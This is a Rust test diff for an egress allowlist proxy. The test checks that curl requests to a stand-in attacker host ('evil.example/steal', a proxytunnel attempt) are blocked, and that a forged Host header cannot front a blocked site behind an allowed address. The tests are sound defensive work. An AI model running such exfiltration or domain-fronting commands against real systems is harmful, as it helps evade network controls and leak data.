@@ -54,7 +54,8 @@ impl Upstream {
                     let first = text.lines().next().unwrap_or("").to_string();
                     let host = text
                         .lines()
-                        .find_map(|l| l.strip_prefix("Host: "))
+                        .find(|l| l.to_ascii_lowercase().starts_with("host:"))
+                        .map(|l| l[5..].trim())
                         .unwrap_or("")
                         .to_string();
                     s.lock().unwrap().push(format!("{first} host={host}"));
@@ -193,6 +194,7 @@ fn a_name_outside_the_allowlist_is_refused_and_blocks_naming_it() {
         let allowed = format!("pkgs.example:{}", up.port);
         let cmd = format!(
             "curl -sS http://evil.example:{p}/steal; curl -sS --proxytunnel http://evil.example:{p}/tunnel; \
+             curl -sS -H 'Host: evil.example' http://pkgs.example:{p}/fronted; \
              curl -sS http://pkgs.example:{other}/wrong-port; true",
             p = up.port,
             other = up.port.wrapping_add(1).max(1)
@@ -204,10 +206,18 @@ fn a_name_outside_the_allowlist_is_refused_and_blocks_naming_it() {
                 &allowed,
                 "--egress-resolve",
                 &format!("evil.example:{}:127.0.0.1", up.port),
+                "--egress-resolve",
+                &format!("pkgs.example:{}:127.0.0.1", up.port),
             ],
         );
         assert_ran(who, &r);
-        assert!(up.requests().is_empty(), "{who:?}: {:?}", up.requests());
+        // Only the allowed name got through, and with its own Host header:
+        // a forged one cannot front another site behind an allowed address.
+        assert_eq!(
+            up.requests(),
+            vec![format!("GET /fronted HTTP/1.1 host={allowed}")],
+            "{who:?}"
+        );
         assert_eq!(r.decision(), "blocked", "{who:?}");
         let e = egress(&r);
         let evil = entry(&e, "evil.example", "proxy").unwrap_or_else(|| panic!("{e:?}"));
@@ -228,7 +238,10 @@ fn a_name_outside_the_allowlist_is_refused_and_blocks_naming_it() {
             "{}",
             r.out()
         );
-        let wrong = entry(&e, "pkgs.example", "proxy").unwrap_or_else(|| panic!("{e:?}"));
+        let wrong = e
+            .iter()
+            .find(|x| x["name"] == "pkgs.example" && x["port"] != up.port)
+            .unwrap_or_else(|| panic!("{e:?}"));
         assert_eq!(wrong["allowed"], false, "the port is part of the pattern");
     }
 }
